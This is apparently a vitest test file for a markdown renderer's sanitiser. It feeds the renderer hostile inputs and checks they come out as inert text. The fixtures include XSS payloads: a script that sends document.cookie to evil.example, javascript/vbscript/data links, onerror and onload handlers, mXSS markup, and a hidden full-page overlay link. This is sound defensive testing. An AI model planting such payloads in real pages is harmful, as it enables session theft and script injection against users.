import { expect, test } from 'vitest'
import { effortOf } from '../test-effort.ts'
import { markdownAsText, renderMarkdown } from './markdown.ts'

/** What a browser would act upon: any tag but these, any attribute but href and rel. */
function actsOn(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([a-z][\w-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)]
  return tags.flatMap(([tag, name = '', attributes = '']) => {
    const plain = /^(p|br|h3|ul|ol|li|strong|em|s|blockquote|code|pre|hr|table|thead|tbody|tr|th|td)$/
    if (
      name === 'a' &&
      (tag.startsWith('</') || /^ href="(https?:\/\/|mailto:)[^"]*"( title="[^"]*")? rel="noopener"$/i.test(attributes))
    )
      return []
    return plain.test(name) && attributes === '' ? [] : [tag]
  })
}

// The first three are BI-F39, BI-F40 and BI-F45 of the shared cases.
const hostile = [
  { id: 'a script', value: "Hello <script>fetch('https://evil.example/?c='+document.cookie)</script> world" },
  { id: 'a script address', value: '[read more](javascript:alert(document.domain))' },
  {
    id: 'a covering link',
    value:
      '<a href="https://evil.example" target=_blank ping="https://evil.example/p" style="position:fixed;inset:0;opacity:0">x</a>',
  },
  { id: 'a script address in capitals', value: '[x](JaVaScRiPt:alert(1))' },
  { id: 'a script address with an entity', value: '[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1))' },
  { id: 'a script address with a tab', value: '[x](java\tscript:alert(1)) [y](java&#9;script:alert(1))' },
  { id: 'a data address', value: '[x](data:text/html;base64,PHNjcmlwdD4=)' },
  { id: 'a vbscript address', value: '<vbscript:msgbox(1)> [x](vbscript:msgbox)' },
  { id: 'an autolink', value: '<javascript:alert(1)>' },
  { id: 'a reference', value: '[x][1]\n\n[1]: javascript:alert(1)' },
  {
    id: 'a picture with an event',
    value: '<img src=x onerror=alert(1)> ![a"onerror="alert(1)](x) ![p](https://evil.example/p.png)',
  },
  { id: 'a title that breaks out', value: '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")' },
  { id: 'an address without a scheme', value: '[x](//evil.example/a)' },
  { id: 'markup in code', value: '`<script>alert(1)</script>`\n\n```html"><script>\n<script>alert(1)</script>\n```' },
  {
    id: 'a drawing',
    value: '<svg/onload=alert(1)><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { id: 'a styled table', value: '| a | b |\n|:--|--:|\n| 1 | 2 |' },
  { id: 'a comment', value: '<!-- --!><script>alert(1)</script> -->' },
]

for (const { id, value } of hostile)
  test(`a story with ${id} stays words`, () => expect(actsOn(renderMarkdown(value))).toEqual([]))

test('a picture leaves its words and asks no other host', () => {
  expect(renderMarkdown('![Coaches in class](https://evil.example/p.png)')).toBe('<p>Coaches in class</p>')
})

test('a link to a source opens without handing over the page', () =>
  expect(renderMarkdown('[SAMHSA](https://www.samhsa.gov/x)')).toBe(
    '<p><a href="https://www.samhsa.gov/x" rel="noopener">SAMHSA</a></p>',
  ))

test('a mail address can be a link', () =>
  expect(renderMarkdown('[write](mailto:a@b.example)')).toContain('href="mailto:a@b.example"'))

test('headings of a story stay below those of the page', () =>
  expect(renderMarkdown('# Funding\n\nText')).toBe('<h3>Funding</h3><p>Text</p>'))

test('a line under words is a rule, not a heading', () =>
  expect(renderMarkdown('In 2023\n\n---')).toBe('<p>In 2023</p>\n<hr>'))

test('words alone keep no marks', () =>
  expect(markdownAsText('**39** coaches\n\n- [one](https://a.example)\n- two')).toBe('39 coaches one two'))

test('deeply nested and very long text is answered with little effort', async () => {
  const texts = ['['.repeat(20_000), '*a '.repeat(20_000), '> '.repeat(5_000), '`'.repeat(20_001), '![['.repeat(9_000)]
  expect(await effortOf(() => texts.map(renderMarkdown))).toBeLessThan(20)
})
